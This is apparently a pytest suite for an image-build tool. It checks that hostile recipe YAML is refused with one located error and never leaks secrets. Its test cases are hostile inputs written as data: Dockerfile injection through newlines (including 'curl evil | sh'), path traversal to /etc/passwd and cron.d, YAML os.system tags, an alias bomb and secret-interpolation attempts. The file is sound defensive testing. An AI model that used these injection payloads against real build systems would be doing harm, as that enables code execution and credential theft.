"""Hostile recipes, as tables: for each field, each way it can be abused.

A recipe may come from a merge request and be built on a CI runner holding registry credentials and an
NGC key. Each case must end as exit 2 with one line naming the file, line and field, fast, and without
reading, writing or echoing anything outside the recipe's repository.
"""

from __future__ import annotations

import os
import re
import time
from pathlib import Path

import pytest

from imgbuild import limits
from imgbuild.errors import RecipeError
from imgbuild.recipe import load_recipe
from tests.conftest import run_cli

HEAD = 'name: demo\nbase: {framework: pytorch, tag: "24.05"}\n'  # lines 1-2
# Content no error message may ever show (it stands for /etc/shadow, a key, a password).
CANARY = "root:$6$CANARY-hash-never-printed"

# (id, recipe text, line, field, words in the message)
FIELD_ABUSE = [
    # names and references: whole-string grammar, bounded length
    (
        "name-trailing-newline",
        'name: "demo\\n"\nbase: {framework: pytorch, tag: "24.05"}\n',
        1,
        "name",
        "not a valid image name",
    ),
    ("name-dotdot", 'name: ".."\nbase: {framework: pytorch, tag: "24.05"}\n', 1, "name", "not a valid image name"),
    (
        "name-slash",
        'name: "a/../../etc"\nbase: {framework: pytorch, tag: "24.05"}\n',
        1,
        "name",
        "not a valid image name",
    ),
    ("name-300-chars", f'name: {"a" * 300}\nbase: {{framework: pytorch, tag: "24.05"}}\n', 1, "name", "at most 128"),
    ("tag-trailing-newline", HEAD + 'tag: "v1\\n"\n', 3, "tag", "not a valid image tag"),
    ("tag-200-chars", HEAD + f"tag: {'t' * 200}\n", 3, "tag", "not a valid image tag"),
    ("image-dotdot", HEAD + 'image: "../etc/x"\n', 3, "image", "not an image reference"),
    ("image-leading-dash", HEAD + 'image: "-x/y"\n', 3, "image", "not an image reference"),
    ("image-dotdot-inside", HEAD + 'image: "a/../b"\n', 3, "image", "not an image reference"),
    ("image-newline", HEAD + 'image: "alice/x\\nRUN id"\n', 3, "image", "not an image reference"),
    ("image-digest", HEAD + f'image: "alice/x@sha256:{"a" * 64}"\n', 3, "image", "cannot carry a digest"),
    (
        "base-image-newline",
        'name: demo\nbase: {image: "ubuntu:22.04\\nRUN id"}\n',
        2,
        "base.image",
        "not an image reference",
    ),
    ("base-image-dash", 'name: demo\nbase: {image: "--privileged"}\n', 2, "base.image", "not an image reference"),
    ("base-tag-newline", 'name: demo\nbase: {framework: pytorch, tag: "24.05\\n"}\n', 2, "base.tag", "not an NGC tag"),
    # Dockerfile injection through a final newline: every checked field
    ("apt-trailing-newline", HEAD + 'apt: ["git\\n"]\n', 3, "apt[0]", "not a Debian/Ubuntu package name"),
    (
        "apt-newline-instruction",
        HEAD + 'apt: ["git\\nRUN curl evil | sh"]\n',
        3,
        "apt[0]",
        "not a Debian/Ubuntu package name",
    ),
    (
        "env-key-trailing-newline",
        HEAD + 'env: {"A\\n": x}\n',
        3,
        'env["A\\n"]',
        "not a valid environment variable name",
    ),
    ("env-value-cr", HEAD + 'env: {A: "x\\rRUN id"}\n', 3, "env.A", "must be one line"),
    ("env-value-huge", HEAD + f'env: {{A: "{"x" * 9000}"}}\n', 3, "env.A", "longer than"),
    ("env-value-int-past-digit-limit", HEAD + f"env: {{A: {'9' * 5000}}}\n", 3, "env.A", "a number too long to read"),
    ("label-key-newline", HEAD + 'labels: {"a\\nRUN id": x}\n', 3, 'labels["a\\nRUN id"]', "not a valid label key"),
    ("label-value-newline", HEAD + 'labels: {a: "x\\nRUN id"}\n', 3, "labels.a", "must be one line"),
    ("arg-key-newline", HEAD + 'args: {"A\\n": x}\n', 3, 'args["A\\n"]', "not a valid environment variable name"),
    ("description-newline", HEAD + 'description: "x\\nRUN id"\n', 3, "description", "must be one line"),
    ("entrypoint-nul", HEAD + 'entrypoint: ["a\\0b"]\n', 3, "entrypoint[0]", "must be one line"),
    ("pip-trailing-newline", HEAD + 'pip: ["einops\\n"]\n', 3, "pip.packages[0]", "must be one line"),
    ("trusted-host-newline", HEAD + 'pip: {trusted_hosts: ["a.b\\n"]}\n', 3, "pip.trusted_hosts[0]", "not a host"),
    ("index-url-file", HEAD + 'pip: {index_url: "file:///etc"}\n', 3, "pip.index_url", "not an index URL"),
    # users and the folders they will own
    ("user-root", HEAD + "user: root\n", 3, "user.name", "system account"),
    ("user-daemon", HEAD + "user: daemon\n", 3, "user.name", "system account"),
    ("user-newline", HEAD + 'user: "alice\\n"\n', 3, "user.name", "not a valid user name"),
    ("home-root", HEAD + "user: {home: /}\n", 3, "user.home", "system folder"),
    ("home-etc", HEAD + "user: {home: /etc}\n", 3, "user.home", "system folder"),
    ("home-under-usr", HEAD + "user: {home: /usr/lib/x}\n", 3, "user.home", "system folder"),
    ("home-dotdot", HEAD + "user: {home: /home/../etc}\n", 3, "user.home", "without '.', '..'"),
    ("workdir-root", HEAD + "workdir: /\n", 3, "workdir", "system folder"),
    ("workdir-var", HEAD + "workdir: /var/lib/data\n", 3, "workdir", "system folder"),
    ("workdir-double-slash", HEAD + "workdir: //workspace\n", 3, "workdir", "without '.', '..'"),
    ("workdir-dollar", HEAD + "workdir: /w/$HOME\n", 3, "workdir", "plain characters"),
    # files: destinations never leave the context, sources never leave the repository
    (
        "dest-dotdot",
        HEAD + "files: [{src: here.txt, dest: /../../etc/cron.d/x}]\n",
        3,
        "files[0].dest",
        "without '.', '..'",
    ),
    (
        "dest-dotdot-middle",
        HEAD + "files: [{src: here.txt, dest: /opt/../../x}]\n",
        3,
        "files[0].dest",
        "without '.', '..'",
    ),
    ("dest-slash", HEAD + "files: [{src: here.txt, dest: /}]\n", 3, "files[0].dest", "cannot copy onto /"),
    ("dest-imgbuild-dir", HEAD + "files: [{src: here.txt, dest: /opt/imgbuild}]\n", 3, "files[0].dest", "own folder"),
    (
        "dest-imgbuild-record",
        HEAD + "files: [{src: here.txt, dest: /opt/imgbuild/dists.base}]\n",
        3,
        "files[0].dest",
        "imgbuild's own folder",
    ),
    ("dest-newline", HEAD + 'files: [{src: here.txt, dest: "/x\\n"}]\n', 3, "files[0].dest", "plain characters"),
    (
        "src-absolute-host-file",
        HEAD + "files: [{src: /etc/passwd, dest: /x}]\n",
        3,
        "files[0].src",
        "outside the recipe's repository",
    ),
    (
        "src-parent",
        HEAD + "files: [{src: ../../outside/secret.txt, dest: /x}]\n",
        3,
        "files[0].src",
        "outside the recipe's repository",
    ),
    (
        "src-symlink-out",
        HEAD + "files: [{src: link-out, dest: /x}]\n",
        3,
        "files[0].src",
        "outside the recipe's repository",
    ),
    ("src-folder-with-link-out", HEAD + "files: [{src: folder, dest: /x}]\n", 3, "files[0].src", "links outside"),
    ("src-fifo", HEAD + "files: [{src: fifo, dest: /x}]\n", 3, "files[0].src", "not a regular file"),
    (
        "requirements-host-file",
        HEAD + "pip: {requirements: /etc/passwd}\n",
        3,
        "pip.requirements",
        "outside the recipe's repository",
    ),
    (
        "requirements-symlink-out",
        HEAD + "pip: {requirements: link-out}\n",
        3,
        "pip.requirements",
        "outside the recipe's repository",
    ),
    (
        "ca-bundle-host-file",
        HEAD + "pip: {ca_bundle: /etc/ssl/private/x.pem}\n",
        3,
        "pip.ca_bundle",
        "outside the recipe's repository",
    ),
    ("extends-host-file", "extends: /etc/passwd\n" + HEAD, 1, "extends", "outside the recipe's repository"),
    ("extends-parent", "extends: ../../outside/base.yaml\n" + HEAD, 1, "extends", "outside the recipe's repository"),
    # secrets never interpolated
    ("var-ngc-key", HEAD + "labels: {k: '${NGC_API_KEY}'}\n", 3, "labels.k", "holds a secret"),
    ("var-imgbuild-index", HEAD + "env: {I: '${IMGBUILD_PIP_INDEX_URL}'}\n", 3, "env.I", "holds a secret"),
    ("var-token-name", HEAD + "env: {T: '${HF_TOKEN}'}\n", 3, "env.T", "holds a secret"),
    ("var-url-with-password", HEAD + "env: {U: '${INNOCENT_URL}'}\n", 3, "env.U", "holds a secret"),
    ("var-value-is-configured-secret", HEAD + "env: {U: '${INNOCENT_NAME}'}\n", 3, "env.U", "holds a secret"),
    # odd YAML and encodings
    ("yaml-merge-key", HEAD + "d: &d {x: 1}\nm:\n  <<: *d\n", 5, "m", "merge keys"),
    ("yaml-python-tag", HEAD + "description: !!python/name:os.system x\n", 3, "description", "not allowed"),
    (
        "yaml-python-object",
        HEAD + "description: !!python/object/apply:os.system [id]\n",
        3,
        "description",
        "not allowed",
    ),
    ("yaml-recursive-alias", HEAD + "run: &r [echo, *r]\n", 3, "run[1]", "recursive YAML alias"),
    ("yaml-deep-nesting", HEAD + "env: " + "[" * 500 + "]" * 500 + "\n", 3, "", "nested deeper than"),
    ("yaml-nul-byte", HEAD + "description: a\0b\n", 3, "", "NUL byte"),
    ("yaml-tab-indent", HEAD + "apt:\n\t- git\n", 4, "", "YAML syntax error"),
    ("yaml-complex-key", HEAD + "? [a, b]\n: c\n", 3, "", "a key must be plain text"),
]

ALIAS_BOMB = HEAD + "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n" for i in range(9)
)


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository (git top level) with a recipes/ folder, and a host file outside it."""
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    recipes = root / "recipes"
    recipes.mkdir()
    (recipes / "here.txt").write_text("x")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(CANARY)
    (outside / "base.yaml").write_text(HEAD)
    (recipes / "link-out").symlink_to(outside / "secret.txt")
    (recipes / "folder").mkdir()
    (recipes / "folder" / "ok.txt").write_text("fine")
    (recipes / "folder" / "shadow").symlink_to(outside / "secret.txt")
    os.mkfifo(recipes / "fifo")
    monkeypatch.setenv("NGC_API_KEY", "nvapi-CANARY-key-0123456789")
    monkeypatch.setenv("IMGBUILD_PIP_INDEX_URL", "https://bob:CANARY-pass@pypi.example/simple")
    monkeypatch.setenv("HF_TOKEN", "hf_CANARY")
    monkeypatch.setenv("INNOCENT_URL", "https://u:CANARY-pw@index.example/simple")
    monkeypatch.setenv("INNOCENT_NAME", "nvapi-CANARY-key-0123456789")
    return recipes


def _problem_lines(path: Path) -> list[str]:
    with pytest.raises(RecipeError) as info:
        load_recipe(path, secrets=("nvapi-CANARY-key-0123456789", "CANARY-pass"))
    assert info.value.exit_code == 2
    return info.value.lines()


@pytest.mark.parametrize("case_id,text,line,field,words", FIELD_ABUSE, ids=[c[0] for c in FIELD_ABUSE])
def test_each_abuse_of_each_field_is_one_located_line(case_id, text, line, field, words, repo):
    path = repo / "recipe.yaml"
    path.write_text(text)
    start = time.monotonic()
    lines = _problem_lines(path)
    assert time.monotonic() - start < 5
    field_part = f" {field}:" if field else ""
    pattern = re.compile(rf"recipe\.yaml:{line}:\d+:{re.escape(field_part)} ")
    matching = [ln for ln in lines if pattern.search(ln)]
    assert matching, f"no problem at line {line} for {field!r} in {lines}"
    assert any(words in ln for ln in matching), f"{words!r} not in {matching}"
    assert not any("CANARY" in ln for ln in lines), f"a secret or host file leaked into {lines}"


def test_a_refused_path_is_one_line_not_also_a_missing_field(repo):
    path = repo / "recipe.yaml"
    path.write_text(HEAD + "files: [{src: /etc/passwd, dest: /opt/x}]\n")
    lines = _problem_lines(path)
    assert len(lines) == 1 and "files[0].src" in lines[0] and "outside the recipe's repository" in lines[0], lines


@pytest.mark.parametrize("text", ["", "# nothing but a comment\n"])
def test_an_empty_recipe_names_its_file_and_the_missing_fields(text, repo):
    path = repo / "recipe.yaml"
    path.write_text(text)
    lines = _problem_lines(path)
    assert sorted(lines) == [
        f"{lines[0].split(':')[0]}: base: missing required field",
        f"{lines[0].split(':')[0]}: name: missing required field",
    ]
    assert lines[0].split(":")[0].endswith("recipe.yaml")


def test_alias_bomb_stops_fast_with_bounded_memory(repo):
    import resource

    path = repo / "bomb.yaml"
    path.write_text(ALIAS_BOMB)  # 9^9 = 387 million strings if expanded
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    lines = _problem_lines(path)
    assert time.monotonic() - start < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # KiB: under 200 MB
    assert any(f"more than {limits.YAML_VALUES} values" in ln for ln in lines), lines


def test_large_recipe_is_refused_before_parsing(repo):
    path = repo / "big.yaml"
    path.write_text(HEAD + "apt:\n" + "  - pkg\n" * 100_000)  # 800 KB
    start = time.monotonic()
    lines = _problem_lines(path)
    assert time.monotonic() - start < 2
    assert (
        lines
        == [
            f"recipes/big.yaml: file is larger than {limits.RECIPE_BYTES // 1024} KiB (imgbuild reads "
            "recipes and requirement files of sane size only)"
        ]
        or "larger than" in lines[0]
    )


def test_many_apt_entries_within_the_size_cap_validate_in_linear_time(repo):
    path = repo / "apt.yaml"
    path.write_text(HEAD + "apt:\n" + "".join(f"  - pkg{i}\n" for i in range(8000)))
    child = repo / "child.yaml"
    child.write_text("extends: apt.yaml\nname: child\napt:\n" + "".join(f"  - extra{i}\n" for i in range(3000)))
    start = time.monotonic()
    loaded = load_recipe(child)
    assert time.monotonic() - start < 5  # was 10 s for 8,000 entries (quadratic position merge)
    assert len(loaded.recipe.apt) == 11_000
    assert loaded.located.where(("apt", 10_999)).line == 4 + 2999  # positions follow the merge


def test_non_utf8_recipe_names_the_byte(repo):
    path = repo / "latin1.yaml"
    path.write_bytes(HEAD.encode() + b"description: caf\xe9\n")
    assert (
        _problem_lines(path) == ["recipes/latin1.yaml:3:17: not UTF-8 text (save the file as UTF-8)"]
        or "not UTF-8" in _problem_lines(path)[0]
    )


def test_extends_chain_deeper_than_the_limit(repo):
    (repo / "r0.yaml").write_text(HEAD)
    for i in range(1, 1200):
        (repo / f"r{i}.yaml").write_text(f"extends: r{i - 1}.yaml\n")
    start = time.monotonic()
    lines = _problem_lines(repo / "r1199.yaml")
    assert time.monotonic() - start < 5
    assert any(f"deeper than {limits.EXTENDS_DEPTH} recipes" in ln and ":1:" in ln for ln in lines), lines


def test_requirements_lines_are_named_never_echoed(repo):
    (repo / "requirements.txt").write_text(f"einops\n{CANARY}\n")
    path = repo / "recipe.yaml"
    path.write_text(HEAD + "pip: {requirements: requirements.txt}\n")
    lines = _problem_lines(path)
    assert any(re.search(r"requirements\.txt:2:1: pip\.requirements: not a valid requirement", ln) for ln in lines), (
        lines
    )
    assert not any("CANARY" in ln for ln in lines)


def test_validation_of_a_host_file_prints_none_of_it(repo):
    """The /etc/shadow case from the review: the CLI's whole output never carries the file's content."""
    path = repo / "recipe.yaml"
    path.write_text(HEAD + "pip: {requirements: ../../outside/secret.txt}\n")
    result = run_cli("validate", str(path))
    assert result.code == 2
    assert "outside the recipe's repository" in result.err
    assert "CANARY" not in result.out + result.err
    assert "Traceback" not in result.err


@pytest.mark.parametrize(
    "run_command",
    [
        "echo trailing backslash \\",
        "cat <<EOF",
        "echo 'quoted \" and \\\\ and $HOME'",
    ],
)
def test_run_commands_cannot_continue_into_the_next_instruction(run_command, repo, tmp_path):
    """`run:` renders in exec form: a trailing `\\` or a heredoc cannot swallow the smoke script's COPY."""
    import json

    from imgbuild.config.settings import load_settings
    from imgbuild.pipeline.plan import make_plan
    from tests.support import render_context

    path = repo / "recipe.yaml"
    path.write_text(HEAD + "run:\n  - " + json.dumps(run_command) + "\nfiles: [{src: here.txt, dest: /opt/here.txt}]\n")
    loaded = load_recipe(path)
    plan = make_plan(loaded, load_settings(environ={}), None)
    dockerfile = (render_context(plan, tmp_path / "ctx") / "Dockerfile").read_text()
    run_lines = [ln for ln in dockerfile.splitlines() if ln.startswith("RUN [")]
    assert [json.loads(ln[4:]) for ln in run_lines] == [["/bin/sh", "-c", run_command]]
    instructions = [ln.split()[0] for ln in dockerfile.splitlines() if ln and not ln.startswith((" ", "#"))]
    assert instructions.count("COPY") == 4  # the stack record's input, the file, the base record and the smoke package
    assert "COPY imgbuild/smoke/ /opt/imgbuild/smoke/" in dockerfile


def test_workdir_with_a_space_is_quoted_for_the_user_script(repo, tmp_path):
    from imgbuild.config.settings import load_settings
    from imgbuild.pipeline.plan import make_plan
    from tests.support import render_context

    path = repo / "recipe.yaml"
    path.write_text(HEAD + "user: alice\nworkdir: /work space\n")
    plan = make_plan(load_recipe(path), load_settings(environ={}), None)
    dockerfile = (render_context(plan, tmp_path / "ctx") / "Dockerfile").read_text()
    assert 'add-user.sh alice "$IMGBUILD_UID" "$IMGBUILD_GID" /home/alice \'/work space\'' in dockerfile


def test_a_secret_written_literally_is_never_rendered(repo, tmp_path, monkeypatch):
    """Even without ${VAR}: a configured secret's value in any rendered file refuses the render."""
    monkeypatch.chdir(repo.parent)
    path = repo / "recipe.yaml"
    path.write_text(HEAD + "labels: {k: 'key nvapi-CANARY-key-0123456789'}\n")
    result = run_cli(
        "render",
        str(path),
        "--offline",
        "-o",
        str(tmp_path / "ctx"),
        env={"NGC_API_KEY": "nvapi-CANARY-key-0123456789"},
    )
    assert result.code == 2, result.err
    # refused at its field by the credential detector (an nvapi- key), before any render could write it
    assert "labels.k: " in result.err and "it would be in the image and its history" in result.err
    assert "CANARY" not in result.out + result.err
    assert not (tmp_path / "ctx").exists() and not list(tmp_path.glob(".ctx*"))


def test_files_copy_symlinks_inside_the_repository_as_content(repo, tmp_path):
    from imgbuild.config.settings import load_settings
    from imgbuild.pipeline.plan import make_plan
    from tests.support import render_context

    (repo / "data").mkdir()
    (repo / "data" / "a.txt").write_text("A")
    (repo / "data" / "b.txt").symlink_to(repo / "here.txt")
    path = repo / "recipe.yaml"
    path.write_text(HEAD + "files: [{src: data, dest: /opt/data}]\n")
    plan = make_plan(load_recipe(path), load_settings(environ={}), None)
    ctx = render_context(plan, tmp_path / "ctx")
    copied = ctx / "files" / "opt" / "data"
    assert (copied / "a.txt").read_text() == "A"
    assert (copied / "b.txt").read_text() == "x" and not (copied / "b.txt").is_symlink()


@pytest.mark.parametrize("dest", ["/../x", "/a/../../x", "/"])
def test_context_path_never_leaves_files(dest):
    from imgbuild.errors import UsageError
    from imgbuild.pipeline.render import context_path_for

    with pytest.raises(UsageError):
        context_path_for(dest)


def test_a_recipe_that_links_out_of_its_repository_is_not_read(repo):
    outside = repo.parent.parent / "outside"
    (outside / "looks-like-yaml.txt").write_text(f"{CANARY}: 1\n")
    (repo / "innocent.yaml").symlink_to(outside / "looks-like-yaml.txt")
    lines = _problem_lines(repo / "innocent.yaml")
    assert lines == ["recipes/innocent.yaml: the recipe is a link to a file outside its repository (repo/)"] or (
        "link to a file outside its repository" in lines[0] and len(lines) == 1
    )
    assert not any("CANARY" in ln for ln in lines)


@pytest.mark.parametrize("link", ["images", "images/demo"])
def test_a_committed_symlink_in_images_is_never_written_through(link, repo, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    root = repo.parent
    (root / "images").mkdir(exist_ok=True) if link != "images" else None
    (root / link).symlink_to(elsewhere, target_is_directory=True)
    (repo / "recipe.yaml").write_text(HEAD)
    result = run_cli("render", "recipes/recipe.yaml", "--offline", cwd=root)
    assert result.code == 2, result.err
    assert "is a symbolic link" in result.err
    assert list(elsewhere.iterdir()) == []
    check = run_cli("rebuild", "--check", "recipes", cwd=root)
    assert check.code == 1 and list(elsewhere.iterdir()) == []


def test_git_metadata_is_never_copied_into_a_context(repo, tmp_path):
    """A CI checkout keeps its job token in .git/config: copying the repository must leave .git out."""
    from imgbuild.config.settings import load_settings
    from imgbuild.pipeline.plan import make_plan
    from imgbuild.pipeline.render import render

    root = repo.parent
    for hostile in ("fifo", "link-out", "folder/shadow"):  # the fixture's traps: this test copies everything
        (repo / hostile).unlink()
    (root / ".git" / "config").write_text('[remote "origin"]\n  url = https://gitlab-ci-token:CANARY@git.example/x\n')
    (repo / "recipe.yaml").write_text(HEAD + "files: [{src: .., dest: /opt/repo}]\n")
    context = render(make_plan(load_recipe(repo / "recipe.yaml"), load_settings(environ={}), None))
    assert context.copies and not any("/.git/" in path or path.endswith("/.git") for path in context.copies)
    (repo / "direct.yaml").write_text(HEAD + "files: [{src: ../.git/config, dest: /opt/config}]\n")
    lines = _problem_lines(repo / "direct.yaml")
    assert any("inside .git" in ln for ln in lines) and not any("CANARY" in ln for ln in lines)


def test_a_copied_file_holding_a_configured_secret_is_refused(repo):
    (repo / "notes.txt").write_text("key: nvapi-CANARY-key-0123456789\n")
    (repo / "recipe.yaml").write_text(HEAD + "files: [{src: notes.txt, dest: /opt/notes.txt}]\n")
    lines = _problem_lines(repo / "recipe.yaml")
    assert any("files[0].src: notes.txt holds a configured secret" in ln for ln in lines), lines
    assert not any("CANARY" in ln for ln in lines)


def test_an_unquoted_date_is_text_as_written(repo):
    (repo / "recipe.yaml").write_text(HEAD + "tag: 2024-01-01\n")
    assert load_recipe(repo / "recipe.yaml").recipe.tag == "2024-01-01"


# --- every field x every odd value, and garbage: only ever a RecipeError ---------------------------------

FUZZ_FIELDS = [
    ("name",),
    ("tag",),
    ("image",),
    ("extends",),
    ("description",),
    ("base",),
    ("base", "image"),
    ("base", "tag"),
    ("base", "framework"),
    ("base", "follow"),
    ("apt",),
    ("pip",),
    ("pip", "packages"),
    ("pip", "requirements"),
    ("pip", "constraints"),
    ("pip", "index_url"),
    ("pip", "extra_index_urls"),
    ("pip", "trusted_hosts"),
    ("pip", "ca_bundle"),
    ("user",),
    ("user", "name"),
    ("user", "uid"),
    ("user", "home"),
    ("run",),
    ("files",),
    ("workdir",),
    ("env",),
    ("labels",),
    ("args",),
    ("entrypoint",),
    ("cmd",),
    ("smoke",),
    ("smoke", "min_speedup"),
    ("smoke", "require_gpu"),
]
FUZZ_VALUES = [
    None,
    0,
    -1,
    1.5,
    True,
    [],
    {},
    [None],
    [{}],
    [[1]],
    {"a": None},
    {"a": [1]},
    "",
    "x" * 10000,
    "a\nb",
    "..",
    "/etc/passwd",
    "${NGC_API_KEY}",
    "${",
    "-x",
    "\t",
    "\u2028",
    10**30,
    [{"src": 5, "dest": "/x"}],
    [{"src": "here.txt", "dest": 5}],
    [{"src": "here.txt"}],
    {"KEY": {"nested": 1}},
    ["a", 1, None],
    [{"src": "here.txt", "dest": "/x", "mode": 99999}],
]


def test_every_field_with_every_odd_value_is_a_located_error_never_a_crash(repo):
    import itertools
    import json

    import yaml

    crashes = []
    for at, value in itertools.product(FUZZ_FIELDS, FUZZ_VALUES):
        data = json.loads(HEAD_JSON)
        node = data
        for key in at[:-1]:
            node = node.setdefault(key, {}) if isinstance(node.get(key, {}), dict) else node
        node[at[-1]] = value
        path = repo / "fuzz.yaml"
        path.write_text(yaml.safe_dump(data, allow_unicode=True))
        try:
            load_recipe(path, secrets=("nvapi-CANARY-key-0123456789",))
        except RecipeError as exc:
            assert not any("CANARY" in ln for ln in exc.lines())
        except Exception as exc:  # noqa: BLE001 - the point of the test: anything else is a bug
            crashes.append(f"{'.'.join(at)}={value!r:.40}: {type(exc).__name__}: {exc}")
    assert crashes == []


HEAD_JSON = '{"name": "demo", "base": {"framework": "pytorch", "tag": "24.05"}}'
GARBAGE = [
    "name: demo\n",
    'base: {framework: pytorch, tag: "24.05"}\n',
    "&a ",
    "*a ",
    "<<: ",
    "!!str ",
    "!!python/tuple ",
    "[",
    "]",
    "{",
    "}",
    ": ",
    "- ",
    "\t",
    "\r",
    "\x00",
    "'",
    '"',
    "|\n",
    "? ",
    "%YAML 1.1\n",
    "---\n",
    "#",
    "\\",
    "\u2028",
    "${X}",
    "files: [{src: ., dest: /a}]\n",
    "\n",
]


def test_garbage_files_are_a_located_error_never_a_crash(repo):
    import random

    rng = random.Random(7)
    crashes = []
    for i in range(600):
        data = (
            rng.randbytes(rng.randint(0, 300))
            if i % 2
            else "".join(rng.choice(GARBAGE) for _ in range(rng.randint(1, 40))).encode()
        )
        path = repo / "garbage.yaml"
        path.write_bytes(data)
        try:
            load_recipe(path)
        except RecipeError:
            pass
        except Exception as exc:  # noqa: BLE001 - the point of the test: anything else is a bug
            crashes.append(f"{data[:60]!r}: {type(exc).__name__}: {exc}")
    assert crashes == []
